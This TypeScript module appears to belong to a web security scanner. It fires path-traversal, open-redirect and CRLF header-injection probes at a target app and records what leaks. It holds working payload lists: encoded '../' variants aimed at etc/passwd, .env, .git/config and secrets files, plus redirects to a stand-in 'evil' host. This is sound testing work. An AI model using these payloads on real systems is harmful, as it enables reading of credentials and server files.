import type { Finding } from '../attack.ts';
import { injectedHeader } from './hostile.ts';
import { rawExchange } from './raw.ts';
import { evil, host, type RequestPart } from './request-target.ts';

const files = [
  'package.json',
  'etc/passwd',
  'apps/bank/src/main.ts',
  '.env',
  '.git/config',
  'data/secrets.json',
];
const steps = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%5c',
  '..\\',
  '%252e%252e%252f',
  '....//',
  '%c0%ae%c0%ae/',
  '.%00./',
  '/',
];
/** As these files begin, or as a server lists a folder. */
const giveaways = /"workspaces"|root:x?:0:0|startBank\(|\[core\]|SECRET_KEYS|Index of \//;

export const traversal: RequestPart = async ({ url }) => {
  const paths = [
    ...files.map((file) => `/${file}`),
    ...steps.flatMap((step) =>
      files.flatMap((file) => [`/${step.repeat(6)}${file}`, `/assets/${step.repeat(6)}${file}`]),
    ),
    '/assets/',
    '/assets',
    '/render.js',
    '/dist/render.js',
    '//',
    '/%00',
    '/assets/%00.js',
    '/api/../package.json',
    '/api/v1/../../package.json',
    '/server-status',
    '/.well-known/../package.json',
  ];
  const findings: Finding[] = [];
  // On connections of their own, since a client would tidy the addresses up.
  const ask = async (path: string) => {
    const request = `GET ${path} HTTP/1.1\r\n${host}Connection: close\r\n\r\n`;
    const { text, statuses } = await rawExchange(url, request, { quietMs: 1_500 });
    if (giveaways.test(text)) findings.push({ where: path, what: 'sends a file of the server' });
    if ((statuses[0] ?? 500) >= 500)
      findings.push({ where: path, what: `is answered ${statuses[0] ?? 'not at all'}` });
  };
  for (let from = 0; from < paths.length; from += 16)
    await Promise.all(paths.slice(from, from + 16).map(ask));
  return { tried: paths.length, findings };
};

export const redirection: RequestPart = async ({ url, redirects }) => {
  const away = [`//${evil}`, `/\\${evil}`, `/%2f%2f${evil}`, `/%5c${evil}`, `/https:${evil}`];
  const lines = [
    `%0d%0a${injectedHeader}:%201`,
    `%0a${injectedHeader}:1`,
    `%E5%98%8A%E5%98%8D${injectedHeader}:1`,
  ];
  const paths = [
    ...away.flatMap((path) => [path, `${path}/..`, `${path}/%2e%2e`]),
    ...redirects.flatMap((from) => [
      from,
      `${from}/`,
      `${from}?next=https://${evil}&url=//${evil}&return_to=//${evil}`,
      ...away.map((path) => `${from}${path}`),
    ]),
    ...['/', '/account/login', ...redirects].flatMap((from) =>
      lines.flatMap((line) => [`${from}${line}`, `${from}?a=${line}`]),
    ),
  ];
  const findings: Finding[] = [];
  for (const path of paths) {
    const request = `GET ${path} HTTP/1.1\r\n${host}Connection: close\r\n\r\n`;
    const [head = ''] = (await rawExchange(url, request)).text.split('\r\n\r\n');
    const location = /^location: *(.*)$/im.exec(head)?.[1];
    if (location !== undefined && !/^\/(?![/\\])/.test(location))
      findings.push({ where: path, what: `leads to ${location}` });
    if (new RegExp(`^${injectedHeader}:`, 'im').test(head))
      findings.push({ where: path, what: 'becomes a header of the answer' });
  }
  return { tried: paths.length, findings };
};
